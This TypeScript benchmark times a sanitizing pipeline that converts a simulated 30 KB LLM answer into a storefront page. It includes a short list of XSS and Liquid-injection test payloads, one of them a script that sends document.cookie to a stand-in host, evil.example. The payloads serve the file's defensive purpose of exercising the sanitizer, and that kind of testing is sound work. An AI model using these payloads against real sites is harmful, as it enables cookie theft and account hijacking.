import { resolve } from "node:path";
import { performance } from "node:perf_hooks";
import { fileURLToPath } from "node:url";
import { DEMO_LARGE } from "../core/demo-stores.ts";
import { candidatesFromProducts, categoryOf, selectForPersona, selectionHandles } from "../core/selection.ts";
import type { PersonaSelection, ShopSettings } from "../core/types.ts";
import { pageFromAnswer } from "../container/src/page-from-answer.ts";
import { loadDemoStore } from "../scripts/demo/load-catalogs.ts";
import type { BenchResult } from "./types.ts";

/**
 * The generator's output pipeline on a 30 KB model answer: extract → sanitize (HTML allowlist and
 * CSS) → neutralise Liquid → 24 placeholders checked against the selection and kept as canonical
 * product slots → validate → page shell. The input is the explorer selection of the large demo store
 * (its largest: 24 products in 6 categories); the cards are expanded later, at the edge.
 * The answer is shaped like a real explorer page (style block, category sections, copy) with some
 * hostile markup mixed in, so the sanitizer does real work. An LLM call takes seconds; this is the
 * CPU cost per generated page that the container adds on top.
 */

const ANSWER_BYTES = 30 * 1024;
const PLACEHOLDERS = 24;
const WARMUP = 50;
const ITERATIONS = 400;
// An LLM answer takes 10-60 s; 20 ms of CPU per page is noise next to it, even on a shared 2-core machine.
const TARGET_PAGES_PER_SECOND = 50;

const COPY =
  "Every piece here was chosen to be worn, used and loved for years. Soft fabrics, honest materials and " +
  "details that reward a closer look: wander through the collection and find something that feels like yours. ";

const HOSTILE = [
  `<script>fetch("https://evil.example/?c="+document.cookie)</script>`,
  `<p onclick="alert(1)">Tap to reveal {{ customer.email }}</p>`,
  `<a href="javascript:alert(1)">Claim your gift</a>`,
  `<div style="background:url(https://evil.example/t.gif);padding:1rem">{% if customer %}Hi{% endif %}</div>`,
  `<img src="x" onerror="alert(1)"><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
];

export function buildAnswer(selection: PersonaSelection): string {
  const products = selection.products.slice(0, PLACEHOLDERS);
  const byCategory = new Map<string, string[]>();
  for (const p of products) byCategory.set(categoryOf(p), [...(byCategory.get(categoryOf(p)) ?? []), p.handle]);
  const categories = [...byCategory.entries()];
  const slug = (s: string) => s.toLowerCase().replace(/[^a-z0-9]+/g, "-");

  const style = `<style>
.hero{padding:2rem 1rem;background:var(--wand-surface);border-radius:.75rem;}
.hero h1{font-size:2rem;margin:0 0 .5rem;}
.section-intro{max-width:40rem;color:var(--wand-text);}
.category-nav a{font-weight:600;}
@media (min-width:48rem){.hero{padding:3rem 2rem;}.grid{gap:1.5rem;}}
</style>`;
  const nav = `<nav class="category-nav" aria-label="Categories"><ul>${categories.map(([c]) => `<li><a href="#${slug(c)}">${c}</a></li>`).join("")}</ul></nav>`;
  const sections = categories.map(
    ([c, handles], i) =>
      `<section id="${slug(c)}" aria-labelledby="${slug(c)}-h"><h2 id="${slug(c)}-h">${c}</h2>
<p class="section-intro">${COPY}</p>${HOSTILE[i % HOSTILE.length]}
<ul class="grid">${handles.map((h) => `<li><wand-product handle="${h}"></wand-product></li>`).join("")}</ul></section>`,
  );
  let answer = `Here is the page:\n\`\`\`html\n${style}\n<div class="hero"><h1>Explore the collection</h1><p class="lede">${COPY}</p></div>\n${nav}\n${sections.join("\n")}`;
  // Pad with the kind of copy models write between sections, up to the target size.
  let i = 0;
  while (Buffer.byteLength(answer) < ANSWER_BYTES - 200) {
    answer += `\n<aside aria-label="Note ${++i}"><h3>Why we love it</h3><p>${COPY}<strong>Made to last.</strong> <a href="/collections/all">Browse all</a></p></aside>`;
  }
  return `${answer}\n\`\`\`\nEnjoy!`;
}

function quantile(sorted: number[], q: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))]!;
}

export async function run(): Promise<BenchResult> {
  const store = loadDemoStore(DEMO_LARGE);
  const settings: ShopSettings = store.settings;
  const selection = selectForPersona({ store: settings.store, persona: "explorer", candidates: candidatesFromProducts(store.products), now: Date.UTC(2026, 0, 1) });
  const answer = buildAnswer(selection);
  const o = { selection, settings, persona: "explorer" as const, baseUrl: "" };

  const first = pageFromAnswer(answer, o);
  if (first.placed.length < Math.min(PLACEHOLDERS, selectionHandles(selection).length)) {
    throw new Error(`the benchmark answer placed only ${first.placed.length} products`);
  }
  let sink = 0;
  for (let i = 0; i < WARMUP; i++) sink += pageFromAnswer(answer, o).html.length;
  const times: number[] = [];
  const started = performance.now();
  for (let i = 0; i < ITERATIONS; i++) {
    const t0 = performance.now();
    sink += pageFromAnswer(answer, o).html.length;
    times.push(performance.now() - t0);
  }
  const totalMs = performance.now() - started;
  if (sink === 0) throw new Error("nothing rendered");
  times.sort((a, b) => a - b);

  const pagesPerSecond = (ITERATIONS * 1000) / totalMs;
  const metrics = {
    pagesPerSecond,
    meanMsPerPage: totalMs / ITERATIONS,
    p95MsPerPage: quantile(times, 0.95),
    answerKB: Buffer.byteLength(answer) / 1024,
    pageKB: Buffer.byteLength(first.html) / 1024,
    productsPlaced: first.placed.length,
  };
  return {
    name: "generator-sanitize",
    metrics,
    units: { pagesPerSecond: "pages/s", meanMsPerPage: "ms", p95MsPerPage: "ms", answerKB: "KB", pageKB: "KB", productsPlaced: "" },
    notes: `pageFromAnswer on a ${metrics.answerKB.toFixed(1)} KB answer with ${first.placed.length} placeholders kept as slots (${store.demo.store} explorer selection), ${ITERATIONS} runs after ${WARMUP} warm-up, one core, Node ${process.versions.node}`,
    target: { metric: "pagesPerSecond", min: TARGET_PAGES_PER_SECOND, description: "post-LLM pipeline under 20 ms per page" },
    pass: pagesPerSecond > TARGET_PAGES_PER_SECOND,
  };
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const r = await run();
  console.log(JSON.stringify(r, null, 2));
}
